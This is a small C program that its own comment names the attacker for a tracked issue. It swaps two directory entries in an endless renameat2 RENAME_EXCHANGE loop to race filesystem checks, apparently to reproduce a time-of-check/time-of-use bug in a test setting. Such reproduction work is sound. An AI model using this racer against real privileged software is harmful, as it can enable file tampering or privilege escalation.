/*
 * The attacker of issue 11 (item 4): exchanges two directory entries with renameat2(RENAME_EXCHANGE) in a loop,
 * as fast as it can, until killed. Usage: swap_dirs DIR NAME1 NAME2. Prints "swapping" once it has swapped once.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
    if (argc != 4) { fprintf(stderr, "usage: swap_dirs DIR NAME1 NAME2\n"); return 64; }
    int directory = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (directory < 0) { perror(argv[1]); return 66; }
    for (unsigned long n = 0;; n++) {
        if (syscall(SYS_renameat2, directory, argv[2], directory, argv[3], RENAME_EXCHANGE) != 0) {
            perror("renameat2");
            return 70;
        }
        if (n == 0) { puts("swapping"); fflush(stdout); }
    }
}
